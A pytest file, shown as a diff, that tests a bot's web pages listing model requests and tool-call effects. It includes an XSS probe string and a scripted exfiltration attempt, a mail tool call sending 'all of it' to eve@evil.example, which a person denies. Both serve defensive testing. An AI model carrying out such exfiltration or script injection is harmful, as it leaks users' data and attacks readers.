@@ -1,0 +1,113 @@
+"""The pages of a turn's requests, as Claude's stand-in read them, and of what the calls of a turn have done."""
+
+import json
+import sqlite3
+from collections.abc import AsyncIterator
+from contextlib import closing
+from html import unescape
+from pathlib import Path
+
+import pytest
+
+from bot.core.messages import OutboundKind
+from bot.core.role import LEAD_ROLE_NAME
+from bot.core.texts import people_holds
+from bot.ops import request_texts as verdicts
+from bot.web_page import request_texts as texts
+from tests.stand_ins.claude import ToolUse, reply
+from tests.support.bench import Bench
+from tests.support.claude_bot import Talk, open_talk
+from tests.support.fakes import reply as says
+from tests.support.fakes import role, uses
+from tests.support.mailing import Post
+from tests.web_page.conftest import Visitor, serve_page
+
+HOSTILE = "<script>alert(1)</script>"
+
+
+@pytest.fixture
+async def talk(tmp_path: Path) -> AsyncIterator[Talk]:
+    """A turn in which the lead has a role work, changes something, and answers."""
+    async with open_talk(tmp_path) as talk:
+        delegated = reply(ToolUse("delegate", {"role": "analyst", "task": "look"}), ToolUse("change", {"to": HOSTILE}))
+        talk.server.script.say(delegated, "all is done", system="the lead")
+        talk.server.script.say(reply(ToolUse("change", {"what": "deep"})), "found", system="the analyst")
+        async with talk.run():
+            await talk.ask(f"change it {HOSTILE}")
+        yield talk
+
+
+@pytest.fixture
+async def visitor(talk: Talk) -> AsyncIterator[Visitor]:
+    async with serve_page(talk.bench) as visitor:
+        yield visitor
+
+
+async def test_a_turns_requests_are_listed_with_what_was_sent(visitor: Visitor, talk: Talk) -> None:
+    page = await visitor.text("/requests/t1")
+    assert page.count(verdicts.AS_SENT()) == 2
+    numbers = [id for (id,) in talk.bench.select("id", "requests", "turn = 't1'", "id")]
+    assert all(f'href="/requests/{number}"' in page for number in numbers)
+    assert (await visitor.get("/requests/t99")).status_code == 404
+    assert (await visitor.get(f"/requests/{10**30}")).status_code == 404
+
+
+async def test_a_request_is_shown_whole_and_no_text_is_html(visitor: Visitor) -> None:
+    page = await visitor.text("/requests/1")
+    assert verdicts.AS_SENT() in page
+    for shown in ("You are the lead", "input_schema", "max_tokens", "change it &lt;script&gt;"):
+        assert shown in page
+    assert page.count("<script") == 1  # the page's own
+
+
+async def test_its_json_is_what_the_server_has_read(visitor: Visitor, talk: Talk) -> None:
+    for request in talk.server.requests:
+        answer = await visitor.get(f"/requests/{request.number}/json")
+        assert answer.headers["content-type"] == "application/json"
+        found = json.loads(answer.text)
+        assert (found["body"], found["is_as_sent"]) == (request.body, True)
+        assert len(found["digest"]) == 64
+
+
+async def test_after_a_change_the_page_says_what_differs(visitor: Visitor, talk: Talk) -> None:
+    with closing(sqlite3.connect(talk.bench.data / "bot.db", isolation_level=None)) as db:
+        db.execute("UPDATE prefixes SET body = json_set(body, '$.system', 'You are another.')")
+    page = await visitor.text("/requests/t1")
+    assert page.count(verdicts.DIFFERS(parts=verdicts.PARTS["system"]())) == 2
+
+
+async def test_the_pages_are_only_for_who_is_logged_in(visitor: Visitor) -> None:
+    visitor.forget_login()
+    answers = [await visitor.get(path) for path in ("/requests/t1", "/requests/1", "/requests/1/json", "/effects/t1")]
+    assert [(each.status_code, each.headers["location"]) for each in answers] == [(303, "/login")] * 4
+
+
+async def test_each_effect_shows_message_request_call_and_record(visitor: Visitor, talk: Talk) -> None:
+    page = await visitor.text("/effects/t1")
+    assert "change it &lt;script&gt;" in page
+    calls = talk.bench.select("id, turn", "calls", "name = 'change'", "id")
+    requests = dict(talk.bench.select("turn, min(id)", "requests", "TRUE GROUP BY turn"))
+    for call, turn in calls:
+        assert call in page
+        assert texts.REQUEST_OF(number=requests[turn], turn=turn) in page
+    assert len(calls) == page.count(texts.NOBODY_ASKED()) == 2
+    assert page.count('<div class="said" tabindex="0">changed</div>') == 2
+    below = await visitor.text(f"/effects/{calls[-1][1]}")
+    assert "deep" in below
+
+
+async def test_a_held_call_shows_who_was_asked_and_what_they_said(bench: Bench) -> None:
+    post = Post()
+    bench.roles[LEAD_ROLE_NAME] = role("lead", "browse", "mail")
+    bench.model.says("lead", says(uses("browse")), says(uses("mail", to="eve@evil.example", text="all of it")), "Done.")
+    async with bench.run(tools=post.tools()), serve_page(bench) as visitor:
+        bench.chat.hears("What does the page say?")
+        asked = await bench.chat.part(OutboundKind.APPROVAL)
+        waiting = await visitor.text("/effects/t1")
+        bench.chat.taps(asked.message.id, people_holds.DENY())
+        await bench.chat.said(OutboundKind.REPLY)
+        page = await visitor.text("/effects/t1")
+    assert texts.WAITS_FOR_PERSON() in unescape(waiting)
+    assert texts.ASKED_PERSON(person="Ann", state="answered") in page
+    assert texts.ANSWERED(answer=people_holds.DENY()) in page
+    assert post.sent == []
